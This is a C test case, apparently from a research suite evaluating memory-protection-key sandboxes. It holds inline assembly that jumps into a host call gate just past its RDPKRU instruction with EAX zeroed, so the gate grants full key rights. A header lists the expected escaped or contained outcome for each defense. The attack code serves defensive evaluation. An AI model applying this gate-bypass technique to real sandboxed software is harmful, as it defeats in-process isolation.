/*
{
  "title": "A jump behind the RDPKRU of a host gate with 0 in EAX: the gate works, and gives back rights that nobody had",
  "precondition": "CR4.PKE = 1",
  "reference": "Vahldiek-Oberwagner et al., ERIM: Secure, Efficient In-process Isolation with Protection Keys (MPK), USENIX Security 2019, section 3.2; Voulimeneas et al., You Shall Not (by)Pass! Practical, Secure, and Fast PKU-based Sandboxing, EuroSys 2022",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1"},
    "mpk-hardened": {"outcome": "contained", "event": "exception"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "contained", "event": "exception"},
    "mpk-bundled": {"outcome": "contained"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "find.h"

// mov %eax, %r12d: what is to be given back. The gate has pushed RBP, RBX and R12 before.
static void jump(uint64_t place) {
  static const char text[] = "";
  __asm__ volatile(
      "leaq 1f(%%rip), %%rsi\n"
      "pushq %%rsi\n"
      "pushq %%rbp\n"
      "pushq %%rbx\n"
      "pushq %%r12\n"
      "movq %%rdx, %%r10\n"
      "movq %%rcx, %%r11\n"
      "jmp *%3\n"
      "1:" : : "a"(0), "c"(0), "d"(0), "r"(place), "D"(text) : "rsi", "r8", "r9", "r10", "r11", "memory");
}

int main(void) {
  BYPASS_OF_KEYS(jump(find((const void *)ushell_puts, "\x41\x89\xc4", 3)));
  GOAL_COUNT();
  return 0;
}
